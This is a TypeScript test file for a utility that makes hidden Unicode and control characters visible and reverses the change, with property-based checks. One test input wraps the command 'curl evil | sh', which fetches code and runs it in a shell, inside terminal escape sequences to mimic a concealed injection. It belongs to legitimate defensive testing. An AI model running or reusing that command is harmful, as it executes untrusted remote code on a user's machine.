import fc from 'fast-check';
import { expect, it } from 'vitest';
import { fromVisibleText, toVisibleText } from './visible-text.ts';

it('[T45] makes hidden characters visible: sequences, directions, joiners, selectors, fillers, odd spaces', () => {
  expect(toVisibleText(": '\u001b]'; curl evil | sh; : '\u0007'")).toBe(": '⟨1B⟩]'; curl evil | sh; : '⟨7⟩'");
  for (const hidden of '\u0000\r\u0085\u00a0\u00ad\u034f\u061c\u115f\u1680\u17b4\u180e\u200b\u200d\u2028\u202e\u2066\u2800\u3164\ufe0f\ufeff\uffa0\ufffe\ue000')
    expect(toVisibleText(`a${hidden}b`)).toBe(`a⟨${hidden.charCodeAt(0).toString(16).toUpperCase()}⟩b`);
  expect(toVisibleText('\u{e0061}\u{e0100}\ud800')).toBe('⟨E0061⟩⟨E0100⟩⟨D800⟩');
});

it('[T45] leaves visible text unchanged, in any language', () => {
  for (const text of ['const a = 1;\t// tab', 'Größe, naïve, 你好　世界, العربية, हिन्दी, 👍', '{}[]()<>⟩'])
    expect(toVisibleText(text)).toBe(text);
});

it('[T45] is reversible for every character', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary' }),
      fc.string({ unit: fc.constantFrom('⟨', '⟩', '1B', '\u001b', '\ud800', '\udc00') }),
      (one, other) => {
        for (const text of [one, other, one + other]) expect(fromVisibleText(toVisibleText(text))).toBe(text);
      },
    ),
  );
});
